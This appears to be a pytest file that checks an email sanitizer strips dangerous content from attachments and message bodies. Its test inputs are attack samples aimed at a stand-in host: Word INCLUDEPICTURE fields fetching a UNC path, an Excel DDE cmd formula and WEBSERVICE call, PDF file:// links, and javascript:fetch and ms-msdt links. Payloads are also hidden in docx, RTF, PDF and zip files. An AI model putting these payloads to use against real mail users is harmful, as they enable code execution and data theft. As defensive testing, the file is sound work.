# ruff: noqa: E501 - PDF dictionaries read better on one line
"""Issue 11's document classes as mail, through the whole pipeline with the shipped CDR in
its isolated child, checked with the shared invariants: Word fields however written, Strict
OOXML, links of disallowed schemes (documents and text bodies), PDF annotations without
/Type and remote threads, keep_if_clean never delivering unread bytes, payloads as parts
(clamd sees them), OpenDocument removed with a notice.

Sanitizer-level variants of each class live in tests/sanitizers/cdr/test_fields.py,
tests/sanitizers/cdr/test_ooxml_payloads.py, tests/sanitizers/cdr/test_pdf.py, tests/sanitizers/test_links.py,
tests/sanitizers/test_opendocument.py and tests/gateway/processing/test_scanner_containers.py; the
generated ones in tests/adversarial/test_fuzz_documents.py."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from gateway.processing.scanner import ClamdClient, ScanningDisarmer
from sanitizers.cdr.isolation import default_disarmer
from sanitizers.pipeline import sanitize_message
from sanitizers.policy import AttachmentAction, AttachmentPolicy, Policy
from sanitizers.report import SanitizeResult
from sanitizers.vocabulary import Action
from tests.adversarial.invariants import assert_safe
from tests.adversarial.test_file_attacks import attach
from tests.clamd import MARKER
from tests.gateway.processing.test_scanner_containers import zip_of
from tests.mailfactory import body_text, leaf, mail, parse
from tests.sanitizers.cdr import office_fixtures as F
from tests.sanitizers.cdr.test_fields import WRITINGS, docx_with_field, to_strict
from tests.sanitizers.cdr.test_ooxml_payloads import EICAR, PE, docx_with_media, xlsx

HOST = "evil-adv11.example"
KEEP_IF_CLEAN = Policy(
    attachments=AttachmentPolicy(
        by_kind=dict.fromkeys(("ooxml", "pdf", "rtf"), AttachmentAction.KEEP_IF_CLEAN)
    )
)


POLICY = Policy()


def run(raw: bytes, policy: Policy = POLICY, disarmer: object | None = None) -> SanitizeResult:
    return sanitize_message(raw, policy, disarmer=disarmer or default_disarmer(policy))  # type: ignore[arg-type]


def delivered(result: SanitizeResult) -> list[bytes]:
    return [
        part.get_payload(decode=True)  # type: ignore[misc]
        for part in parse(result.message).walk()
        if part.get_filename()
    ]


def inflated(data: bytes) -> bytes:
    if data[:2] != b"PK":
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


def assert_host_gone(result: SanitizeResult) -> None:
    assert_safe(result)
    for data in delivered(result):
        assert HOST.encode() not in inflated(data)


@pytest.mark.parametrize("writing", list(WRITINGS))
@pytest.mark.parametrize("strict", [False, True])
def test_word_fields_in_mail(writing: str, strict: bool) -> None:
    body = WRITINGS[writing](f'INCLUDEPICTURE "\\\\{HOST}\\share\\p.png" \\d')
    data = docx_with_field(body, "header")
    data = to_strict(data) if strict else data
    result = run(attach(data, "請求書.docx"))
    assert_host_gone(result)
    (part,) = [p for p in result.report.parts if p.filename == "請求書.docx"]
    assert part.action == Action.SANITIZED
    assert part.removed


def test_strict_xlsm_dde_and_fetching_formulas_in_mail() -> None:
    data = to_strict(xlsx([f"cmd|' /c {HOST}'!A0", f'_xlfn.WEBSERVICE("http://{HOST}/")']))
    result = run(attach(data, "集計.xlsx"))
    assert_host_gone(result)


def _pdf_with(annotations: list[Dictionary]) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(a) for a in annotations])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_pdf_links_and_untyped_annotations_in_mail() -> None:
    data = _pdf_with(
        [
            Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI=String(f"file://{HOST}/x.exe"))),
            Dictionary(Type=Name("/XObject"), Subtype=Name("/Screen"), Rect=[0, 0, 9, 9], Contents=String(HOST)),
            Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name("/Thread"), D=0, F=String(f"\\\\{HOST}\\t.pdf"))),
        ]
    )  # fmt: skip
    result = run(attach(data, "案内.pdf", "application/pdf"))
    assert_safe(result)
    (out,) = delivered(result)
    with pikepdf.open(io.BytesIO(out)) as pdf:
        qdf = io.BytesIO()
        pdf.save(qdf, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert HOST.encode() not in qdf.getvalue()


@pytest.mark.parametrize(
    "link", [f"javascript:fetch('//{HOST}')", f"ms-msdt:/id PCWDiagnostic {HOST}"]
)
def test_text_body_links_are_defanged(link: str) -> None:
    html = f'<p><a href="{link}">{link}</a></p>'.encode()
    for raw in (
        mail(leaf("text/plain; charset=utf-8", link.encode())),
        mail(leaf("text/html", html)),
    ):
        result = run(raw)
        assert_safe(result)
        text = body_text(result.message)
        assert link not in text
        assert link.split(":", 1)[0] + "[:]" in text


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (docx_with_media(EICAR, "x.png", "image/png", referenced=False), "a.docx"),
        (docx_with_media(PE, "x.png", "image/png", referenced=False), "b.docx"),
        (F.clean_rtf() + b"\r\n" + PE, "c.rtf"),
    ],
    ids=["docx-orphan-eicar", "docx-orphan-pe", "rtf-trailing-pe"],
)
def test_keep_if_clean_never_delivers_unread_bytes(data: bytes, name: str) -> None:
    result = run(attach(data, name), KEEP_IF_CLEAN)
    assert_safe(result)
    for out in delivered(result):
        everything = inflated(out)
        assert b"EICAR-STANDARD" not in everything
        assert b"payload-marker-7c1e" not in everything


def test_pdf_after_eof_never_delivered_keep_if_clean() -> None:
    data = _pdf_with([]) + b"\n" + PE
    result = run(attach(data, "x.pdf", "application/pdf"), KEEP_IF_CLEAN)
    assert_safe(result)
    assert all(b"payload-marker-7c1e" not in out for out in delivered(result))


def test_lzma_zip_member_is_seen_by_clamd(clamd_socket: Path) -> None:
    policy = Policy()
    disarmer = ScanningDisarmer(default_disarmer(policy), ClamdClient(f"unix:{clamd_socket}", 10.0))
    data = zip_of({"readme.txt": b"text " + MARKER + b"\n"}, zipfile.ZIP_LZMA)
    result = run(attach(data, "資料.zip", "application/zip"), policy, disarmer)
    assert_safe(result)
    (part,) = [p for p in result.report.parts if p.filename == "資料.zip"]
    assert part.reason.value == "malware"
    assert delivered(result) == []
